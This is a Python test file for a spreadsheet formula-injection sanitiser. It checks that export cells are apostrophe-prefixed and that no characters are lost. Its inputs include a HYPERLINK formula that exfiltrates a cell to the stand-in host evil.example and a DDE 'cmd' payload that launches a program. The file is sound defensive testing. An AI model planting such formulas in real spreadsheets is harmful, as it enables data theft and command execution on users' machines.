"""spreadsheet_safe: no cell of an export or error report runs as a formula, nothing lost."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kehu.core.exports import FORMULA_PREFIXES, safe_row, spreadsheet_safe

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_every_formula_prefix_is_neutralised(prefix):
    value = prefix + "cmd|' /c calc'!A0"
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /c calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "=1+1",
        "  =1+1",
        "\n=1+1",
        "\u3000＝1+1",
        "\t=1",
        "\r=1",
    ],
)
def test_hostile_strings_never_start_a_formula(hostile):
    safe = spreadsheet_safe(hostile)
    assert safe.startswith("'")
    assert safe[1:] == hostile  # nothing lost


@pytest.mark.parametrize(
    "harmless", ["张三", "VIP 客户", "a=b", "13812345678", "x-y", "user@example.com", "", "'quoted"]
)
def test_harmless_text_is_unchanged(harmless):
    assert spreadsheet_safe(harmless) == harmless


def test_control_characters_become_visible_pictures():
    assert spreadsheet_safe("a\x00b\x07c\x1fd") == "a\u2400b\u2407c\u241fd"
    # Tab, line feed and carriage return inside a value stay.
    assert spreadsheet_safe("a\tb\nc\rd") == "a\tb\nc\rd"
    # A control character in front does not hide a formula behind it either way.
    assert spreadsheet_safe("\x01=1") == "\u2401=1"


def test_long_values_are_kept_whole():
    value = "=" + "长" * 10_000
    safe = spreadsheet_safe(value)
    assert len(safe) == 10_002 and safe[1:] == value


def test_values_that_are_not_text():
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheet_safe(date(2026, 1, 2)) == date(2026, 1, 2)
    assert spreadsheet_safe(datetime(2026, 1, 2, 3, 4)) == datetime(2026, 1, 2, 3, 4)
    assert spreadsheet_safe(True) == "True"
    assert safe_row(["=1", None, 3]) == ["'=1", "", 3]


@given(st.text(max_size=200))
def test_no_output_starts_a_formula_and_nothing_is_lost(text):
    safe = spreadsheet_safe(text)
    assert safe.lstrip(" \n\u3000\u00a0")[:1] not in FORMULA_PREFIXES
    body = safe[1:] if len(safe) == len(text) + 1 else safe
    assert len(body) == len(text)  # an apostrophe at most, every character kept
    assert not any(chr(code) in body for code in range(9))
